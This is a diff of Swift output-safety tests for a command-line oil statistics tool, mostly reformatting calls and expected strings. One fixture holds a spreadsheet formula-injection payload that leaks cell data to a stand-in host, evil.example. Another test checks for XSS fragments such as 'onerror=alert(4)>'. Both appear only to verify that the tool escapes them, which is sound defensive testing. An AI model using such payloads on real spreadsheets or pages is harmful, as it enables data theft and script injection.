@@ -2,7 +2,7 @@ import Foundation
 import Testing
 
 #if canImport(Glibc)
-import Glibc
+    import Glibc
 #endif
 
 /// Issue 8, safe outputs: standard output that cannot be written, closed pipes, `--output` onto devices, links,
@@ -17,8 +17,10 @@ struct OutputSafetyTests {
     }
 
     /// Runs `executable arguments` with `standardOutput` as its standard output and the test database.
-    static func run(_ executable: URL, _ arguments: [String], standardOutput: FileHandle, runner: CommandRunner,
-                    currentDirectory: URL? = nil) throws -> Ending {
+    static func run(
+        _ executable: URL, _ arguments: [String], standardOutput: FileHandle, runner: CommandRunner,
+        currentDirectory: URL? = nil
+    ) throws -> Ending {
         let process = Process()
         process.executableURL = executable
         process.arguments = arguments
@@ -34,15 +36,19 @@ struct OutputSafetyTests {
         try process.run()
         let errData = err.fileHandleForReading.readDataToEndOfFile()
         process.waitUntilExit()
-        return Ending(reason: process.terminationReason, status: process.terminationStatus,
-                      errorOutput: String(decoding: errData, as: UTF8.self))
+        return Ending(
+            reason: process.terminationReason, status: process.terminationStatus,
+            errorOutput: String(decoding: errData, as: UTF8.self))
     }
 
     /// Runs a `/bin/sh` script in which `$OILSTAT` is the built binary.
-    static func shell(_ script: String, standardOutput: FileHandle, runner: CommandRunner = CommandRunner(),
-                      currentDirectory: URL? = nil) throws -> Ending {
-        try run(URL(fileURLWithPath: "/bin/sh"), ["-c", script], standardOutput: standardOutput, runner: runner,
-                currentDirectory: currentDirectory)
+    static func shell(
+        _ script: String, standardOutput: FileHandle, runner: CommandRunner = CommandRunner(),
+        currentDirectory: URL? = nil
+    ) throws -> Ending {
+        try run(
+            URL(fileURLWithPath: "/bin/sh"), ["-c", script], standardOutput: standardOutput, runner: runner,
+            currentDirectory: currentDirectory)
     }
 
     static let newsShare = ["share", "--month", "2018-10", "--source", "news report"]
@@ -110,10 +116,12 @@ struct OutputSafetyTests {
         let input = try Self.largeJODI(in: folder)
         for ignore in ["", "trap '' PIPE; "] {
             let out = Pipe()
-            let script = "\(ignore)\"$OILSTAT\" share --all-months --jodi '\(input)' | head -1; "
+            let script =
+                "\(ignore)\"$OILSTAT\" share --all-months --jodi '\(input)' | head -1; "
                 + "echo \"status ${PIPESTATUS[0]}\""
-            let ending = try Self.run(URL(fileURLWithPath: "/bin/bash"), ["-c", script],
-                                      standardOutput: out.fileHandleForWriting, runner: CommandRunner())
+            let ending = try Self.run(
+                URL(fileURLWithPath: "/bin/bash"), ["-c", script],
+                standardOutput: out.fileHandleForWriting, runner: CommandRunner())
             try out.fileHandleForWriting.close()
             let text = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
             #expect(ending.status == 0)
@@ -143,9 +151,11 @@ struct OutputSafetyTests {
     func outputDevNullIsWrittenAndStaysACharacterDevice() throws {
         var before = stat()
         #expect(stat("/dev/null", &before) == 0)
-        for arguments in [["share", "--month", "2018-10", "--source", "news report", "--output", "/dev/null"],
-                          ["chart", "share", "--month", "2019-12", "--output", "/dev/null"],
-                          ["share", "--all-months", "--jodi", Self.sampleJODI, "--output", "/dev/null"]] {
+        for arguments in [
+            ["share", "--month", "2018-10", "--source", "news report", "--output", "/dev/null"],
+            ["chart", "share", "--month", "2019-12", "--output", "/dev/null"],
+            ["share", "--all-months", "--jodi", Self.sampleJODI, "--output", "/dev/null"],
+        ] {
             let result = try CommandRunner().run(arguments)
             #expect(result.status == 0, "\(result.errorOutput)")
             #expect(result.output.isEmpty)
@@ -177,24 +187,27 @@ struct OutputSafetyTests {
             stat -c '%n %F %t,%T' /dev/full /dev/null; stat -c '%n %F' /dev/stdout
             """
         let out = Pipe()
-        let ending = try Self.run(URL(fileURLWithPath: "/usr/bin/unshare"), ["-m", "sh", "-c", script],
-                                  standardOutput: out.fileHandleForWriting, runner: CommandRunner())
+        let ending = try Self.run(
+            URL(fileURLWithPath: "/usr/bin/unshare"), ["-m", "sh", "-c", script],
+            standardOutput: out.fileHandleForWriting, runner: CommandRunner())
         try out.fileHandleForWriting.close()
         let text = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
         #expect(ending.status == 0, "\(ending.errorOutput)")
-        #expect(text == """
-            full 1
-            null 0
-            chart 0
-            jodi 0
-            \(plain.output)stdout 0
-            /dev/full character special file 1,7
-            /dev/null character special file 1,3
-            /dev/stdout symbolic link
+        #expect(
+            text == """
+                full 1
+                null 0
+                chart 0
+                jodi 0
+                \(plain.output)stdout 0
+                /dev/full character special file 1,7
+                /dev/null character special file 1,3
+                /dev/stdout symbolic link
 
-            """)
-        #expect(ending.errorOutput == "Error: /dev/full: cannot write (No space left on device)\n"
-            + "wrote /dev/null\nwrote /dev/null\nwrote /dev/stdout\n")
+                """)
+        #expect(
+            ending.errorOutput == "Error: /dev/full: cannot write (No space left on device)\n"
+                + "wrote /dev/null\nwrote /dev/null\nwrote /dev/stdout\n")
     }
 
     @Test func outputFollowsALinkIntoTheFileItNames() throws {
@@ -212,9 +225,11 @@ struct OutputSafetyTests {
     @Test func outputOntoADirectoryIsAnError() throws {
         let folder = try ChartCommandTests.workingDirectory()
         try FileManager.default.createDirectory(atPath: folder.path + "/out", withIntermediateDirectories: false)
-        for arguments in [["share", "--month", "2018-10", "--source", "news report", "--output", "out"],
-                          ["chart", "share", "--month", "2019-12", "--output", "out"],
-                          ["share", "--all-months", "--jodi", Self.sampleJODI, "--output", "out"]] {
+        for arguments in [
+            ["share", "--month", "2018-10", "--source", "news report", "--output", "out"],
+            ["chart", "share", "--month", "2019-12", "--output", "out"],
+            ["share", "--all-months", "--jodi", Self.sampleJODI, "--output", "out"],
+        ] {
             let result = try CommandRunner().run(arguments, currentDirectory: folder)
             #expect(result.status == 1)
             #expect(result.errorOutput == "Error: out: is a directory, not a file\n")
@@ -245,7 +260,8 @@ struct OutputSafetyTests {
         let folder = try ChartCommandTests.workingDirectory()
         let input = try Self.largeJODI(in: folder)
         try "old\n".write(to: folder.appendingPathComponent("out.csv"), atomically: false, encoding: .utf8)
-        let script = "trap '' XFSZ; ulimit -f 64; "
+        let script =
+            "trap '' XFSZ; ulimit -f 64; "
             + "exec \"$OILSTAT\" share --all-months --jodi '\(input)' --output out.csv"
         let ending = try Self.shell(script, standardOutput: FileHandle.nullDevice, currentDirectory: folder)
         #expect(ending.reason == .exit && ending.status == 1)
@@ -277,22 +293,25 @@ struct OutputSafetyTests {
         try Data(Self.hostileCountries.utf8).write(to: URL(fileURLWithPath: path))
         let fast = try CommandRunner().run(["share", "--all-months", "--jodi", path, "--format", "csv"])
         #expect(fast.status == 0, "\(fast.errorOutput)")
-        #expect(fast.output == """
-            country,month,kbd,share_pct,mom_change_kbd,mom_change_pct
-            SA,2023-12,1000.0000,100.0000,,
-            SA,2024-01,1000.0000,32.2581,0.0000,0.0000
-            "'=HYPERLINK(""http://evil.example/?""&A1,""x"")",2024-01,600.0000,19.3548,,
-            '@SUM(1+1),2024-01,500.0000,16.1290,,
-            '+1+1,2024-01,400.0000,12.9032,,
-            '-1+1,2024-01,300.0000,9.6774,,
-            "a,b
-            c",2024-01,200.0000,6.4516,,
-            "x""y",2024-01,100.0000,3.2258,,
+        #expect(
+            fast.output == """
+                country,month,kbd,share_pct,mom_change_kbd,mom_change_pct
+                SA,2023-12,1000.0000,100.0000,,
+                SA,2024-01,1000.0000,32.2581,0.0000,0.0000
+                "'=HYPERLINK(""http://evil.example/?""&A1,""x"")",2024-01,600.0000,19.3548,,
+                '@SUM(1+1),2024-01,500.0000,16.1290,,
+                '+1+1,2024-01,400.0000,12.9032,,
+                '-1+1,2024-01,300.0000,9.6774,,
+                "a,b
+                c",2024-01,200.0000,6.4516,,
+                "x""y",2024-01,100.0000,3.2258,,
 
-            """)
+                """)
         // The renderer path (taken for any --delimiter) gives the same bytes: one encoder.
-        let rendered = try CommandRunner().run(["share", "--all-months", "--jodi", path, "--format", "csv",
-                                                "--delimiter", ","])
+        let rendered = try CommandRunner().run([
+            "share", "--all-months", "--jodi", path, "--format", "csv",
+            "--delimiter", ",",
+        ])
         #expect(rendered.output == fast.output)
     }
 
@@ -314,8 +333,9 @@ struct OutputSafetyTests {
         let runner = CommandRunner()
         let load = try runner.run(["load", "hostile.csv"], currentDirectory: folder)
         #expect(load.status == 0, "\(load.errorOutput)")
-        let report = try runner.run(["report", "--month", "2024-01", "--source", source, "--output-dir", "r"],
-                                    currentDirectory: folder)
+        let report = try runner.run(
+            ["report", "--month", "2024-01", "--source", source, "--output-dir", "r"],
+            currentDirectory: folder)
         #expect(report.status == 0, "\(report.errorOutput)")
         let markdown = try String(contentsOf: folder.appendingPathComponent("r/report-2024-01.md"), encoding: .utf8)
         for raw in ["<script", "<img", "</p>", "onerror=alert(4)>"] { #expect(!markdown.contains(raw), "\(raw)") }
@@ -326,8 +346,9 @@ struct OutputSafetyTests {
         let command = try #require(line.range(of: "oilstat share --month 2024-01 --source '\(source)'"))
         let shell = "\"$OILSTAT\"" + line[command].dropFirst("oilstat".count)
         let out = Pipe()
-        let ending = try Self.shell(shell, standardOutput: out.fileHandleForWriting, runner: runner,
-                                    currentDirectory: folder)
+        let ending = try Self.shell(
+            shell, standardOutput: out.fileHandleForWriting, runner: runner,
+            currentDirectory: folder)
         try out.fileHandleForWriting.close()
         let table = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
         #expect(ending.status == 0, "\(ending.errorOutput)")
